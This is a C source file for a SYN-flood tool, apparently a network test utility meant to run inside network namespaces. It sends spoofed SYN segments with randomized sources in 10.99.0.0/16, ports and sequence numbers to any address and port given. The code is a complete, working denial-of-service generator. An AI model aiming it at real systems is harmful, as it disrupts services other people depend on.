// SPDX-License-Identifier: GPL-2.0
/*
 * A SYN flood: segments from addresses and ports that nobody has.
 *
 *	synflood ADDR PORT COUNT SECONDS [SEED]
 *
 * Sources are 10.99.0.0/16; they go out evenly over so many seconds, or as
 * fast as they can. Run in the namespace that they leave from.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "common.h"

/* What a Linux client's SYN carries: MSS, SACK, timestamps, window scale. */
static const uint8_t options[20] = {
	2, 4, 5, 180, 4, 2, 8, 10, 0, 1, 2, 3, 0, 0, 0, 0, 1, 3, 3, 7,
};

struct packet {
	struct ip ip;
	struct tcphdr tcp;
	uint8_t options[sizeof(options)];
};

static uint64_t rng;

static uint32_t draw(void)
{
	rng = rng * 6364136223846793005ULL + 1442695040888963407ULL;
	return rng >> 32;
}

static uint32_t sum16(const void *data, size_t len)
{
	const uint16_t *p = data;
	uint32_t sum = 0;

	for (; len; len -= 2)
		sum += *p++;
	return sum;
}

static uint16_t tcp_checksum(const struct packet *p)
{
	const size_t len = sizeof(*p) - sizeof(p->ip);
	uint32_t sum = sum16(&p->tcp, len) + sum16(&p->ip.ip_src, 8) +
		       htons(IPPROTO_TCP) + htons(len);

	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct packet p = { 0 };
	uint64_t i, count, ms, start;
	int raw;

	if (argc < 5 || !inet_aton(argv[1], &to.sin_addr))
		die("usage: synflood ADDR PORT COUNT SECONDS [SEED]");
	count = strtoull(argv[3], NULL, 0);
	ms = strtoull(argv[4], NULL, 0) * 1000;
	rng = argc > 5 ? strtoull(argv[5], NULL, 0) : 1;
	raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (raw < 0)
		die("raw socket");
	p.ip.ip_v = 4;
	p.ip.ip_hl = 5;
	p.ip.ip_len = htons(sizeof(p));
	p.ip.ip_ttl = 64;
	p.ip.ip_p = IPPROTO_TCP;
	p.ip.ip_dst = to.sin_addr;
	p.tcp.dest = htons(atoi(argv[2]));
	p.tcp.doff = (sizeof(p) - sizeof(p.ip)) / 4;
	p.tcp.syn = 1;
	memcpy(p.options, options, sizeof(options));
	start = now_ms();
	for (i = 0; i < count; i++) {
		p.ip.ip_src.s_addr = htonl(0x0a630000 | (draw() & 0xffff));
		p.ip.ip_id = draw();
		p.tcp.source = htons(1024 + draw() % 60000);
		p.tcp.seq = draw();
		p.tcp.window = draw() | 0xff;
		p.tcp.check = 0;
		p.tcp.check = tcp_checksum(&p);
		/* a full queue below is a segment lost, as on any network */
		sendto(raw, &p, sizeof(p), 0, (struct sockaddr *)&to, sizeof(to));
		while ((now_ms() - start) * count < i * ms)
			usleep(1000);
	}
	printf("%llu SYNs in %llu ms\n", (unsigned long long)count,
	       (unsigned long long)(now_ms() - start));
	return 0;
}
